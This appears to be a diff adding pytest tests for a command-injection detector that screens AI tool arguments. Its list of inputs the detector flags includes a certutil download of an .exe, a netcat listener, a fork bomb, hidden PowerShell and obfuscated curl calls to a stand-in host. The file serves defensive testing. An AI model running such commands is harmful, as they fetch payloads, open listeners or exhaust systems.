@@ -1,0 +1,77 @@
+"""Shell reading of the web-attack detector: commands found, look-alikes passed, linear time."""
+
+from __future__ import annotations
+
+import pytest
+
+from bastion.core.normalise import on_views
+from bastion.core.types import Direction, Severity, Subject
+from bastion.detectors.webattack import webattack_check
+from bastion.detectors.webattack_shell import shell_signals
+from tests.detectors.timing import BOUND, growth
+
+CHECK = on_views(webattack_check())
+
+
+def _high(text: str) -> set[str]:
+    return {
+        f.code
+        for f in CHECK(Subject(text=text, direction=Direction.TOOL_ARGS))
+        if f.severity.rank >= Severity.HIGH.rank
+    }
+
+
+COMMANDS = [
+    "time curl x.example",
+    "|$u wget test",
+    "x; time sh -c id",
+    "nohup sh -c whoami",
+    "uname$u -a",
+    "cu$@rl evil.example",
+    "x;c\\at /etc/hostname",
+    "pi``ng 10.1.2.3",
+    "ls -l /srv/data",
+    "a=nc&&$a -nlvp 555",
+    "$SHELL -c 'echo hi'",
+    "/usr/bin/perl -e 'print 1' f.txt",
+    "ok;lastlog -u root",
+    "alias ll='ls -al'",
+    "f(){ f|f& };f",
+    "IF EXIST filename CMD",
+    'FOR /F "tokens=1 delims=," %%G IN (a.txt) DO ECHO %%G',
+    "q=1&certutil -urlcache -f http://x.example/a.exe a.exe",
+    "powershell.exe -nop -w hidden",
+]
+
+
+@pytest.mark.parametrize("text", COMMANDS)
+def test_commands_in_tool_arguments_are_high(text: str) -> None:
+    assert "webattack.cmdi" in _high(text)
+
+
+LOOK_ALIKES = [
+    "time to ship; more later",
+    "cat food | dog food",
+    "hello; time he came",
+    "Tom & Jerry; find them later",
+    "https://example.com",
+    "support@organization.com",
+    ";$a $b $c",
+    "O'Reilly",
+    "She is 5' 10\" tall",
+    "python",
+    "see the date (today) & time",
+    "x = () { return y; }",
+]
+
+
+@pytest.mark.parametrize("text", LOOK_ALIKES)
+def test_look_alikes_are_not_commands(text: str) -> None:
+    assert "webattack.cmdi" not in _high(text)
+
+
+@pytest.mark.parametrize("stressor", [";", "$u", "a ", "; ls ", "``", "'", "\\", "[a]", "|$x "])
+def test_shell_reading_scales_linearly(stressor: str) -> None:
+    small = stressor * (50_000 // len(stressor))
+    ratio = growth(shell_signals, small, small * 4)
+    assert ratio < BOUND, f"x4 input of {stressor!r} took x{ratio:.1f} time"
